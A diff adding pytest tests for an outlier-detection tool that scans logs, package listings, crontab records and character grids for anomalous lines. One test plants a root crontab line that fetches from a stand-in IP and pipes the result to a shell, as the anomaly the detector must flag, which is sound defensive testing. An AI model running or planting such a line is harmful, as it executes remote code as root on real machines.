@@ -173,3 +173,85 @@ class TestBounded:
     def test_hostile_texts_are_looked_at(self, text: str) -> None:
         assert overview(text.encode()).size == len(text)
         assert overview(json.dumps({"content": text}).encode()).kind == "object"
+
+
+def _told(lines: list[str]) -> Any:
+    return overview("\n".join(lines).encode())
+
+
+class TestLines:
+    """What is rows only in a part of each line, or in several lines."""
+
+    def test_json_at_the_end_is_a_row(self) -> None:
+        lines = [
+            f"2026-05-01T06:{at // 60:02d}:{at % 60:02d}Z INFO row {json.dumps(row)}"
+            for at, row in enumerate(odd_rows())
+        ]
+        first = _told(lines).outliers[0]
+        assert (first.place.lines, first.reasons[0]) == ((ODD, ODD + 1), "state 'down'")
+
+    @pytest.mark.parametrize("tail", ["load=1 mem=2%", 'row {"load": 1}', "seen"])
+    def test_a_gap_between_moments(self, tail: str) -> None:
+        late = [at + 300 * (at >= ODD) for at in range(200)]
+        lines = [f"2026-05-01 {at // 60:02d}:{at % 60:02d}:00 heartbeat {tail}" for at in late]
+        (first,) = _told(lines).outliers
+        assert first.place.lines == (ODD, ODD + 1)
+        assert "after a gap" in first.reasons[0]
+
+    def test_a_first_word_before_free_text(self) -> None:
+        rng = random.Random(5)
+        words = ["plain", "quick", "worker", "module", "of", "the", "parcel", "desk"]
+        told = [" ".join(rng.choices(words, k=rng.randrange(3, 9))) for _ in range(300)]
+        lines = [
+            f"ii  lib{rng.choice(words)}-{at}  1.{at % 9}-2  amd64  {text}" for at, text in enumerate(told)
+        ]
+        assert _told(lines).outliers == ()
+        lines[ODD] = "iU" + lines[ODD][2:]
+        (first,) = _told(lines).outliers
+        assert first.place.lines == (ODD, ODD + 1)
+
+    def test_records_of_two_lines(self) -> None:
+        rng = random.Random(6)
+        words = ["boat", "parcel", "desk", "heron", "harbor"]
+        lines = []
+        for _ in range(100):
+            lines += [
+                f"# {' '.join(rng.choices(words, k=4))}",
+                f"{rng.randrange(60)} 4 * * app /opt/{rng.choice(words)}.sh",
+            ]
+        assert _told(lines).outliers == ()
+        lines[2 * ODD + 1] = "* * * * * root fetch 203.0.113.66/q | sh"
+        first = _told(lines).outliers[0]
+        assert first.place.lines == (2 * ODD, 2 * ODD + 2)
+
+    @pytest.mark.parametrize(("characters", "odd"), [("....#", "X"), ("ACGT", "N"), ("-=~", "x")])
+    def test_a_character_that_none_else_has(self, characters: str, odd: str) -> None:
+        rng = random.Random(7)
+        lines = ["".join(rng.choices(characters, k=70)) for _ in range(120)]
+        assert _told(lines).outliers == ()
+        lines[ODD] = lines[ODD][:30] + odd + lines[ODD][31:]
+        (first,) = _told(lines).outliers
+        assert (first.place.lines, first.reasons[0]) == ((ODD, ODD + 1), f"odd '{odd}'")
+
+
+class TestNamesAndLanguage:
+    """What looks like alarm, or is new, only because names and languages are like that."""
+
+    @pytest.mark.parametrize(
+        "name", ["Payload/App.app/Info.plist", "#include <linux/err.h>", "lib/error/reset.py"]
+    )
+    def test_names_of_files_are_no_alarm(self, name: str) -> None:
+        rng = random.Random(8)
+        words = ["boat", "parcel", "desk", "heron", "harbor", "infos", "erred"]
+        form = name.replace("Info", "{}").replace("err.", "{}.").replace("reset", "{}")
+        lines = [form.format(rng.choice(words)) for _ in range(200)]
+        lines[ODD] = name
+        reasons = [reason for each in _told(lines).outliers for reason in each.reasons]
+        assert not {"INFO", "err", "ERR", "level INFO", "reset", "error"} & set(reasons)
+
+    def test_source_has_no_new_words(self) -> None:
+        from castore.overview import pools
+
+        with open(pools.__file__, encoding="utf-8") as source:
+            found = overview(source.read().encode())
+        assert not any("new words" in each.reasons for each in found.outliers)
